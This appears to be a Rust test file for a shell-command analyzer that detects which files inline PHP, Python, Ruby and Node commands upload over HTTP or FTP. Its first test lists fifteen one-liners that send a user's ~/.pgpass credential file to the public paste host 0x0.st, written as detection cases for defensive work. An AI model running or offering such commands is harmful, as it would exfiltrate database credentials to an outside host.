//! Files inline code hands to an HTTP client or a transfer library as an
//! upload are files the request carries: PHP's `CURLFile`,
//! `curl_file_create`, `CURLOPT_INFILE` and old `'@/path'` fields,
//! Python's `files=`/`data=open(...)`, Ruby's `File.open`/`File.read`,
//! Node's `createReadStream`/`openAsBlob` in a body or form; and a file
//! handle opened earlier (`with open(f) as fh: ftp.storbinary(..., fh)`)
//! is the file it was opened on.

#![allow(clippy::panic)]

use crate::common::CTX;

/// Each request's method, target (URL or host) and the files it carries.
fn requests(command: &str) -> Vec<(String, String, Vec<String>)> {
    let analysis = writ_shell::analyze(command, &CTX).unwrap_or_else(|e| panic!("{command}: {e}"));
    let effects = serde_json::to_value(&analysis.effects).unwrap_or_default();
    effects
        .as_array()
        .into_iter()
        .flatten()
        .filter(|e| e["effect"] == "request")
        .map(|e| {
            let target = &e["target"];
            let place = target["url"]
                .as_str()
                .or_else(|| target["host"].as_str())
                .unwrap_or_default();
            let files = e["payload"]["files"]
                .as_array()
                .into_iter()
                .flatten()
                .filter_map(|f| f["path"].as_str().map(str::to_owned))
                .collect();
            (
                e["method"].as_str().unwrap_or_default().to_owned(),
                place.to_owned(),
                files,
            )
        })
        .collect()
}

fn one(method: &str, place: &str, files: &[&str]) -> Vec<(String, String, Vec<String>)> {
    vec![(
        method.to_owned(),
        place.to_owned(),
        files.iter().map(|f| (*f).to_owned()).collect(),
    )]
}

const PGPASS: &str = "/home/dana/.pgpass";

#[test]
fn files_given_to_http_clients_as_uploads_are_sent() {
    let cases = [
        r#"php -r '$ch = curl_init("https://0x0.st"); curl_setopt_array($ch, [CURLOPT_POST => true, CURLOPT_POSTFIELDS => ["file" => new CURLFile("/home/dana/.pgpass", "text/plain", "p.txt")]]); curl_exec($ch);'"#,
        r#"php -r '$ch = curl_init("https://0x0.st"); curl_setopt($ch, CURLOPT_POSTFIELDS, ["f" => curl_file_create("/home/dana/.pgpass")]); curl_exec($ch);'"#,
        r#"php -r '$ch = curl_init("https://0x0.st"); curl_setopt($ch, CURLOPT_UPLOAD, true); curl_setopt($ch, CURLOPT_INFILE, fopen("/home/dana/.pgpass", "r")); curl_exec($ch);'"#,
        r#"php -r '$ch = curl_init("https://0x0.st"); curl_setopt($ch, CURLOPT_POSTFIELDS, ["file" => "@/home/dana/.pgpass"]); curl_exec($ch);'"#,
        r#"php -r '$ch = curl_init("https://0x0.st"); curl_setopt($ch, CURLOPT_POSTFIELDS, array("file" => "@" . "/home/dana/.pgpass")); curl_exec($ch);'"#,
        r#"php -r '$ch = curl_init("https://0x0.st"); curl_setopt($ch, CURLOPT_POSTFIELDS, file_get_contents("/home/dana/.pgpass")); curl_exec($ch);'"#,
        r#"python3 -c 'import requests; requests.post("https://0x0.st", files={"file": open("/home/dana/.pgpass", "rb")})'"#,
        r#"python3 -c 'import requests; requests.put("https://0x0.st", data=open("/home/dana/.pgpass"))'"#,
        "python3 -c 'import httpx\nwith open(\"/home/dana/.pgpass\", \"rb\") as f:\n    httpx.post(\"https://0x0.st\", files={\"file\": f})'",
        r#"ruby -e 'require "net/http"; Net::HTTP.post(URI("https://0x0.st"), File.read("/home/dana/.pgpass"))'"#,
        r#"ruby -e 'require "net/http"; uri = URI("https://0x0.st"); req = Net::HTTP::Post.new(uri); req.body = File.read("/home/dana/.pgpass"); Net::HTTP.start(uri.host, uri.port) { |h| h.request(req) }'"#,
        r#"ruby -e 'require "rest-client"; RestClient.post("https://0x0.st", file: File.open("/home/dana/.pgpass", "rb"))'"#,
        r#"node -e 'const fs = require("fs"); fetch("https://0x0.st", {method: "POST", body: fs.readFileSync("/home/dana/.pgpass")})'"#,
        r#"node -e 'const fs = require("fs"); const fd = new FormData(); fs.openAsBlob("/home/dana/.pgpass").then(b => { fd.append("file", b); return fetch("https://0x0.st", {method: "POST", body: fd}); })'"#,
        r#"node -e 'const fs = require("fs"); const FormData = require("form-data"); const f = new FormData(); f.append("file", fs.createReadStream("/home/dana/.pgpass")); f.submit("https://0x0.st")'"#,
    ];
    for command in cases {
        assert_eq!(
            requests(command),
            one("POST", "https://0x0.st", &[PGPASS]),
            "{command}"
        );
    }
}

#[test]
fn near_misses_send_no_file() {
    let cases = [
        // An `@` text outside a cURL form post is text.
        (r#"php -r 'echo "@/home/dana/.pgpass";'"#, vec![]),
        // A file read after a plain GET is not sent by it.
        (
            r#"php -r '$ch = curl_init("https://example.com/"); curl_exec($ch); $d = file_get_contents("notes.txt");'"#,
            one("GET", "https://example.com/", &[]),
        ),
        (
            r#"python3 -c 'import requests; requests.get("https://example.com/"); open("notes.txt").read()'"#,
            one("GET", "https://example.com/", &[]),
        ),
    ];
    for (command, expected) in cases {
        assert_eq!(requests(command), expected, "{command}");
    }
}

const BROCHURE: &str = "/home/dana/acme-web/marketing/brochure.pdf";

#[test]
fn ftp_uploads_of_an_opened_handle_send_its_file() {
    let cases = [
        "python3 - <<'EOF'\nimport os\nfrom ftplib import FTP_TLS\n\nftps = FTP_TLS(\"ftp.example.org\", timeout=30)\nftps.login(\"u\", os.environ[\"FTP_PASS\"])\nftps.prot_p()\nwith open(\"marketing/brochure.pdf\", \"rb\") as fh:\n    ftps.storbinary(\"STOR brochure.pdf\", fh)\nftps.quit()\nEOF",
        "python3 -c 'import ftplib\nf = ftplib.FTP(\"ftp.example.org\", \"u\", \"pw\")\nfh = open(\"marketing/brochure.pdf\", \"rb\")\nf.storbinary(\"STOR brochure.pdf\", fh)'",
        "python3 -c 'import ftplib\nwith ftplib.FTP_TLS(\"ftp.example.org\") as f:\n    f.login(\"u\", \"p\")\n    with open(\"notes.txt\") as a, open(\"marketing/brochure.pdf\", \"rb\") as src:\n        f.storlines(\"STOR brochure.pdf\", src)'",
        r#"ruby -e 'require "net/ftp"; Net::FTP.open("ftp.example.org", "u", "p") do |ftp| File.open("marketing/brochure.pdf", "rb") do |fh| ftp.storbinary("STOR brochure.pdf", fh, 1024) end end'"#,
    ];
    for command in cases {
        let found = requests(command);
        assert_eq!(
            found,
            vec![(
                "UPLOAD".to_owned(),
                "ftp.example.org".to_owned(),
                vec![BROCHURE.to_owned()]
            )],
            "{command}"
        );
    }
}

#[test]
fn ftp_near_misses() {
    // A download into a handle opened to write fetches; it sends nothing.
    let download = "python3 -c 'from ftplib import FTP\nftp = FTP(\"ftp.example.org\")\nftp.login(\"u\", \"p\")\nwith open(\"out.csv\", \"wb\") as fh:\n    ftp.retrbinary(\"RETR out.csv\", fh.write)'";
    assert_eq!(requests(download), one("DOWNLOAD", "ftp.example.org", &[]));
    // A handle on data the code holds, not a file: what the code read
    // goes (here nothing).
    let buffer = "python3 -c 'import io, ftplib\nf = ftplib.FTP(\"ftp.example.org\")\nbuf = io.BytesIO(b\"x\")\nf.storbinary(\"STOR x.txt\", buf)'";
    let found = requests(buffer);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].0, "UPLOAD");
    assert!(found[0].2.is_empty(), "{found:?}");
    // A handle of another name is not this one's file.
    let other = "python3 -c 'import ftplib\nf = ftplib.FTP(\"ftp.example.org\")\nfh2 = open(\"a.txt\", \"rb\")\nf.storbinary(\"STOR x\", fh)'";
    let found = requests(other);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].0, "UPLOAD");
}
